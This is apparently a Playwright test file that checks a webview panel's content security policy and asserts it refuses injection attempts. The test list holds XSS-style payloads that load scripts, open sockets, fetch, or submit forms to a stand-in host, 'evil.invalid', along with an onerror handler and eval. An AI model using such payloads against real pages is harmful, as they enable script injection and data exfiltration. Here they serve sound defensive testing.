import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { FakeEngine, hostileNames } from './fakeEngine';
import { ORIGIN } from './hostHtml';
import { orderById, picture, row, usePages } from './usePages';

/** What each directive of the panel's policy allows; `nonce` and `own`: that of this page, and the extension's files. */
const POLICY: Readonly<Record<string, readonly string[]>> = {
  'default-src': ["'none'"],
  'script-src': ['nonce'],
  'style-src': ['own', 'nonce'],
  'font-src': ['own', 'data:'],
  'base-uri': ["'none'"],
  'form-action': ["'none'"],
};

/** The directives of a policy with what they allow, in which nonces and the origin of own files are named so. */
function directives(policy: string): Record<string, string[]> {
  return Object.fromEntries(
    policy
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .map(([name, ...sources]) => [
        name,
        sources.map((source) => {
          if (/^'nonce-[^']+'$/.test(source)) return 'nonce';
          return source === ORIGIN || source === '${webview.cspSource}' ? 'own' : source;
        }),
      ]),
  );
}

/** The policy as the host writes it, before its values are put in. */
function writtenPolicy(): string {
  const source = readFileSync(path.resolve(__dirname, '../../src/features/panel/panelHtml.ts'), 'utf8');
  const list = /const policy = \[\n([^]*?)\n {2}\]\.join\('; '\);/.exec(source)?.[1] ?? '';
  return list
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => !line.startsWith('//'))
    .map((line) => line.replace(/^["'`]|["'`],?$/g, ''))
    .join(';');
}

describe('the content security policy, in the panel’s page', function () {
  this.timeout(60_000);
  const { open } = usePages();
  const films = new FakeEngine({ users: 600, measures: ['nDCG@10', 'AP@10'], models: 2, problems: true });

  it('is the one that the host writes, and allows neither inline script nor any address', async () => {
    const panel = await open(films);
    const policy = await panel.page
      .locator('meta[http-equiv=Content-Security-Policy]')
      .getAttribute('content');
    assert.deepEqual(directives(policy ?? ''), POLICY);
    assert.deepEqual(directives(writtenPolicy()), POLICY);
  });

  const attempts: readonly [what: string, script: string][] = [
    ['an inline script', `add('script', (s) => { s.textContent = 'broken()'; })`],
    [
      'an inline handler',
      `(document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="broken()">'), 0)`,
    ],
    ['a remote script', `add('script', (s) => { s.src = 'https://evil.invalid/x.js'; })`],
    ['a remote image', `add('img', (s) => { s.src = 'https://evil.invalid/x.png'; })`],
    [
      'a remote style sheet',
      `add('link', (s) => { s.rel = 'stylesheet'; s.href = 'https://evil.invalid/x.css'; })`,
    ],
    ['a frame', `add('iframe', (s) => { s.src = 'https://evil.invalid/'; })`],
    ['an object', `add('object', (s) => { s.data = 'https://evil.invalid/'; })`],
    [
      'an inline style',
      `(document.body.insertAdjacentHTML('beforeend', '<b style="background: url(https://evil.invalid/x)">'), 0)`,
    ],
    ['a fetch', `fetch('https://evil.invalid/').catch(() => 0)`],
    ['a socket', `(() => { try { new WebSocket('wss://evil.invalid/'); } catch { return 0; } })()`],
    ['eval', `setTimeout(() => { try { (0, eval)('broken()'); } catch { return; } })`],
    ['another base', `document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.invalid/">')`],
    ['a form', `add('form', (f) => { f.action = 'https://evil.invalid/'; setTimeout(() => f.submit()); })`],
  ];
  for (const [what, script] of attempts) {
    it(`refuses ${what}`, async () => {
      const panel = await open(films);
      await row(panel, 0).waitFor();
      const sent: string[] = [];
      // It would be answered, if it were ever sent.
      await panel.page.route('https://evil.invalid/**', (route) => {
        sent.push(route.request().url());
        return route.fulfill({ body: 'broken()' });
      });
      const refused = await panel.page.evaluate<string>(`new Promise((resolve) => {
        globalThis.broken = () => resolve('RUN');
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective));
        const add = (name, fill) => { const made = document.createElement(name); fill(made); document.body.append(made); };
        setTimeout(() => resolve('nothing was refused'), 3000);
        ${script};
      })`);
      // The refusals are what was asked for.
      panel.troubles.length = 0;
      assert.match(refused, /-src|base-uri|form-action/);
      assert.deepEqual(sent, []);
    });
  }

  it('hostile names are text in the table, in one user’s lists and arithmetic, and in the problems', async () => {
    const panel = await open(films);
    const { page } = panel;
    await orderById(panel);
    for (const index of [0, 1, 6]) {
      await row(panel, index).getByRole('rowheader').click();
      await page.locator('aside.user .summary').first().waitFor();
    }
    await picture(panel, 'hostile-user');
    await page.locator('#tab-problems').click();
    await page.locator('.finding-fold').first().click();
    await picture(panel, 'hostile-problems');
    assert.equal(await page.locator('img, iframe, object, script:not([nonce]):not([type])').count(), 0);
    const [width, inner] = await page.evaluate<number[]>(
      '[document.documentElement.scrollWidth, innerWidth]',
    );
    assert.equal(width, inner);
    assert.ok((await page.locator('.user').innerText()).includes(hostileNames[0]));
  });
});
